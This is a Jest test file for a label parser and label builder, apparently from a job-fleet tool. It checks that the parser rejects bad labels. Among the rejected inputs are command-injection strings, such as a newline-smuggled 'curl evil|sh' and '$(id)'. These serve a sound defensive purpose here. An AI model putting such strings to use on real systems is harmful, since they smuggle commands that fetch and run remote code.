import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { labelOf, parseLabel } from '../../../src/core/fleet/label.ts'
import { faultOf } from '../../fakes/fault.ts'

describe('parseLabel', () => {
  it.each([
    { text: '', expected: undefined },
    { text: 'gpu-1.big_one', expected: 'gpu-1.big_one' },
    { text: 'x'.repeat(64), expected: 'x'.repeat(64) },
  ])('takes $text', ({ text, expected }) => {
    expect(parseLabel(text)).toBe(expected)
  })

  it.each(['x\ncurl evil|sh', 'x" --replace; id #', '$(id)', 'a b', 'a/b', 'x'.repeat(65), 'é', 'x\n'])(
    'refuses %j',
    async (text) => {
      const shown = JSON.stringify(text.slice(0, 80))
      expect(await faultOf(() => parseLabel(text))).toEqual({
        code: 'INPUT',
        message: `Input label is ${shown}; expected 1 to 64 letters, digits, dots, underscores and hyphens.`,
      })
    },
  )
})

describe('labelOf', () => {
  it.each([
    { place: { runId: 7, job: 'launch', nonce: 'abcd1234' }, expected: 'crisol-7-launch-abcd1234' },
    { place: { runId: 0, job: '', nonce: 'abcd1234' }, expected: 'crisol-abcd1234' },
    { place: { runId: 7, job: 'a b/c', nonce: 'abcd1234' }, expected: 'crisol-7-a-b-c-abcd1234' },
  ])('gives $expected', ({ place, expected }) => {
    expect(labelOf(place)).toBe(expected)
  })

  it('gives what a label may be, for any job and any run', () => {
    void fc.assert(
      fc.property(fc.nat({ max: 1e13 }), fc.string(), (runId, job) => {
        const label = labelOf({ runId, job, nonce: 'abcd1234' })
        expect(parseLabel(label)).toBe(label)
      }),
    )
  })
})
